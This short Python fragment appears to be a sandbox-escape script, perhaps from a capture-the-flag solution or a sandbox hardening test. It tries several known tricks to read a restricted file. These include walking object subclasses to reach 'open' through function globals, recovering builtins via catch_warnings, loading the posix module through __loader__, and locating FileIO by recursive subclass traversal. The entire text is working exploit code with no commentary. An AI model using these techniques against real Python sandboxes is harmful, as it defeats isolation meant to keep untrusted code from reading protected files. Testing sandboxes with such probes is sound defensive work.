for c in ().__class__.__base__.__subclasses__():
    if c.__name__ in ("_wrap_close", "FileLoader", "SourceFileLoader", "Popen", "FileIO"):
        attempt(c.__name__, lambda: c.__init__.__globals__["open"](FILE).read())
attempt("builtins", lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"][0]()._module.__builtins__["open"](FILE).read())
attempt("loader", lambda: __loader__.load_module("posix").open(FILE, 0))
def walk(c):
    for d in c.__subclasses__():
        yield d
        if d is not type: yield from walk(d)
attempt("FileIO", lambda: [c for c in walk(object) if c.__name__ == "FileIO"][0](FILE).read())
